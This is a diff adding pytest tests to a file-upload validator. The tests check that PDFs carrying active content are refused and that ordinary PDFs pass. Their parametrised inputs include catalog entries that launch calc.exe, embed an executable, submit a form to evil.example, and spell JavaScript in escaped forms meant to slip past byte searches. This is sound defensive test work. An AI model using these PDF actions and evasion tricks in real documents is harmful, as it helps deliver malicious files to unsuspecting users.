@@ -106,3 +106,71 @@ def test_file_names_are_neutralised(name, expected):
 def test_a_very_long_name_keeps_its_extension():
     name = sanitise_filename("长" * 500 + ".pdf")
     assert len(name) <= validation.MAX_NAME_LENGTH and name.endswith(".pdf")
+
+
+# PDF active content (issue 10 §5): the check parses the PDF, so neither an escaped name
+# nor a compressed object stream hides a script from it.
+
+
+def test_the_probes_pdf_files_hide_their_script_from_a_byte_search():
+    """Guards the two tests below: neither file holds the bytes "/JavaScript"."""
+    for data in (samples.pdf_open_action_hex_escaped(), samples.pdf_javascript_in_object_stream()):
+        assert b"javascript" not in data.lower()
+        assert not validation._scan(io.BytesIO(data), validation._PDF_ACTIVE_MARKERS)
+
+
+def test_a_pdf_opening_with_a_hex_escaped_javascript_action_is_refused():
+    with pytest.raises(UploadRejected) as info:
+        check(samples.pdf_open_action_hex_escaped(), "通知.pdf")
+    assert info.value.code == "file_active_content"
+    assert "脚本" in str(info.value.message)
+
+
+def test_a_pdf_with_javascript_inside_a_compressed_object_stream_is_refused():
+    with pytest.raises(UploadRejected) as info:
+        check(samples.pdf_javascript_in_object_stream(), "通知.pdf")
+    assert info.value.code == "file_active_content"
+
+
+@pytest.mark.parametrize(
+    "catalog_extra",
+    [
+        b"/OpenAction << /S /Launch /F (calc.exe) >>",
+        b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>",
+        b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>",
+        b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>",
+        b"/OpenAction << /S /#4Aava#53cript /#4A#53 (x) >>",
+    ],
+)
+def test_other_active_pdf_actions_are_refused_whatever_their_spelling(catalog_extra):
+    data = samples.handmade_pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", *samples._PAGES])
+    with pytest.raises(UploadRejected) as info:
+        check(data, "a.pdf")
+    assert info.value.code == "file_active_content"
+
+
+def test_a_pdf_opening_on_a_page_is_accepted():
+    """/OpenAction as a destination (show page 1) is ordinary, not a script."""
+    data = samples.handmade_pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", *samples._PAGES])
+    assert check(data, "a.pdf")[1] is validation.PDF
+
+
+def test_an_ordinary_pdf_made_by_reportlab_is_accepted():
+    safe_name, kind = check(samples.reportlab_pdf(), "整改报告.pdf")
+    assert (safe_name, kind) == ("整改报告.pdf", validation.PDF)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"%PDF-1.7\n" + b"\x00\xff" * 200,
+        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
+        samples.pdf()[:-40],
+    ],
+    ids=["garbage", "no-pages", "truncated"],
+)
+def test_a_pdf_that_cannot_be_parsed_is_refused(data):
+    with pytest.raises(UploadRejected) as info:
+        check(data, "a.pdf")
+    assert info.value.code == "pdf_invalid"
+    assert "无法解析" in str(info.value.message)
